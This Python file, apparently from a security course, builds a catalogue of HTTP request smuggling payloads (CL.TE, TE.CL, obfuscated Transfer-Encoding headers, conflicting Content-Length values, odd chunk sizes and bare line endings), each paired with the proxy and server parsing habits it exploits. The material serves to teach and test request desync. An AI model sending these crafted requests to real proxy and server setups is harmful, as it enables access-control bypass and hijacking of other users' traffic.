"""Requests of which two programs see different ends, with the habits that make them disagree."""

from collections.abc import Iterator
from dataclasses import dataclass

from course.attack.lax_framing import Habits

HIDDEN_PATH = "/echo/smuggled"

HIDDEN = f"GET {HIDDEN_PATH} HTTP/1.1\r\nHost: a\r\n\r\n".encode()
"""The request that is hidden in another one."""


@dataclass(frozen=True)
class Trick:
    """An ambiguous request, which to `proxy` is one. To a server like `falls_for` it is two."""

    name: str
    request: bytes
    proxy: Habits
    falls_for: Habits


GOES_BY_LENGTH = Habits(chunked="never")
OBFUSCATED = {
    "xchunked": "Transfer-Encoding: xchunked",
    "space before the colon": "Transfer-Encoding : chunked",
    "tab before the colon": "Transfer-Encoding\t: chunked",
    "vertical tab": "Transfer-Encoding: \x0bchunked",
    "quotes": 'Transfer-Encoding: "chunked"',
    "parameter": "Transfer-Encoding: chunked;q=1",
    "identity behind it": "Transfer-Encoding: chunked, identity",
    "identity before it": "Transfer-Encoding: identity, chunked",
    "two lines": "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "twice": "Transfer-Encoding: chunked, chunked",
    "folded value": "Transfer-Encoding:\r\n chunked",
    "space before the name": "X-A: b\r\n Transfer-Encoding: chunked",
}
"""Codings that some take for chunked, and some do not."""


def ending_early(path: str, *lines: str, version: str = "HTTP/1.1") -> bytes:
    """One body by its length. By its chunks it ends at once, and what follows is a request."""
    body = b"0\r\n\r\n" + HIDDEN
    return message("POST", path, body, *lines, f"Content-Length: {len(body)}", version=version)


def ending_late(path: str, *lines: str) -> bytes:
    """One body by its chunks. By its length it ends with the first line."""
    size = b"%x\r\n" % len(HIDDEN)
    body = size + HIDDEN + b"\r\n0\r\n\r\n"
    return message("POST", path, body, *lines, f"Content-Length: {len(size)}")


def message(method: str, path: str, body: bytes, *lines: str, version: str = "HTTP/1.1") -> bytes:
    """A request with these field lines and this body."""
    head = "\r\n".join([f"{method} {path} {version}", "Host: a", *lines, "", ""])
    return head.encode("latin-1") + body


def cl_te(path: str) -> Iterator[Trick]:
    """The proxy goes by the length, the server by the coding."""
    coding = "Transfer-Encoding: chunked"
    first, second = Habits(both="length"), Habits(both="coding")
    yield Trick("CL.TE", ending_early(path, coding), first, second)
    old = ending_early(path, coding, "Connection: keep-alive", version="HTTP/1.0")
    yield Trick("CL.TE in HTTP/1.0", old, GOES_BY_LENGTH, second)


def te_cl(path: str) -> Iterator[Trick]:
    """The proxy goes by the coding, the server by the length."""
    request = ending_late(path, "Transfer-Encoding: chunked")
    yield Trick("TE.CL", request, Habits(both="coding"), Habits(both="length"))


def te_te(path: str) -> Iterator[Trick]:
    """One of both does not see the coding, which is written in an unusual way."""
    chunks = b"%x\r\n%b\r\n0\r\n\r\n" % (len(HIDDEN), HIDDEN)
    for name, line in OBFUSCATED.items():
        folded = "X-A" in line  # to whoever folds it is part of another field
        sees = Habits(chunked="anywhere", names="stripped", folds=not folded)
        early, late = ending_early(path, line), ending_late(path, line)
        alone = message("GET", "/", chunks, line)
        yield Trick(f"{name}, server sees it", early, GOES_BY_LENGTH, sees)
        yield Trick(f"{name}, proxy sees it", late, sees, GOES_BY_LENGTH)
        yield Trick(f"{name}, no length", alone, sees, GOES_BY_LENGTH)


def two_lengths(path: str) -> Iterator[Trick]:
    """Of two lengths each takes another; or one cannot read a number that the other one can."""
    size = len(HIDDEN)
    first, last = Habits(which="first"), Habits(which="last")
    for name, values, proxy, server in (
        ("0 last", (size, 0), first, last),
        ("0 first", (0, size), last, first),
    ):
        lines = [f"Content-Length: {value}" for value in values]
        yield Trick(f"two lines, {name}", message("GET", "/", HIDDEN, *lines), proxy, server)
    reads = Habits(number="python", names="stripped", folds=True)
    for name, line in (
        ("a sign", f"Content-Length: +{size}"),
        ("an underscore", f"Content-Length: {size // 10}_{size % 10}"),
        ("a form feed", f"Content-Length: \x0c{size}"),
        ("a space before the colon", f"Content-Length : {size}"),
        ("a fold", f"Content-Length:\r\n {size}"),
    ):
        yield Trick(name, message("GET", "/", HIDDEN, line), reads, Habits())


def chunk_sizes(path: str) -> Iterator[Trick]:
    """A size that int() can read, and whose digits in front, if there are any, make 0."""
    data = b"\r\n" + HIDDEN  # the empty line ends the trailer of those who read 0
    for name, size in (
        ("0x", b"0x%x"),
        ("0X", b"0X%X"),
        ("a space before", b" %x"),
        ("a tab before", b"\t%x"),
        ("a sign", b"+%x"),
        ("an underscore", b"0_%x"),
    ):
        body = size % len(data) + b"\r\n" + data + b"\r\n0\r\n\r\n"
        request = message("POST", path, body, "Transfer-Encoding: chunked")
        yield Trick(name, request, Habits(size="python"), Habits(size="digits"))


def line_ends(path: str) -> Iterator[Trick]:
    """One of both takes an LF, or a CR, by itself for the end of a line; the other does not."""
    coding = "Transfer-Encoding: chunked"
    lf, cr = Habits(lines="lf"), Habits(lines="cr")
    yield Trick("a coding behind LF", ending_early(path, f"X-A: b\n{coding}"), Habits(), lf)
    yield Trick("a coding behind CR", ending_early(path, f"X-A: b\r{coding}"), Habits(), cr)
    length = f"Content-Length: {len(HIDDEN)}"
    behind = message("GET", "/", HIDDEN, f"X-A: b\n{length}")
    yield Trick("a length behind LF", behind, lf, Habits())
    head = b"GET / HTTP/1.1\r\nHost: a\r\nX-A: b\n\n"
    yield Trick("a head that ends with LF", head + HIDDEN, Habits(), lf)
    region = b"0\r\n\r\n" + HIDDEN
    body = b"2;\nxx\r\n%02x\r\n%b\r\n0\r\n\r\n" % (len(region), region)
    extension = message("POST", path, body, coding)
    yield Trick("an extension with LF", extension, lf, Habits())


def unexpected_bodies(path: str) -> Iterator[Trick]:
    """A request as it should be, with a body that the server does not read."""
    length = f"Content-Length: {len(HIDDEN)}"
    for method in ("GET", "HEAD", "DELETE", "OPTIONS"):
        request, without = message(method, "/", HIDDEN, length), (method.encode(),)
        yield Trick(f"{method} with a body", request, Habits(), Habits(without_body=without))
    ignoring = Habits(without_body=(b"POST",))
    nowhere = message("POST", "/is/not/there", HIDDEN, length)
    yield Trick("a body for nobody", nowhere, Habits(), ignoring)
    for name, expected in (("100-continue", "100-continue"), ("something else", "y, 100-continue")):
        request = message("POST", path, HIDDEN, length, f"Expect: {expected}")
        yield Trick(f"Expect: {name}", request, Habits(), ignoring)
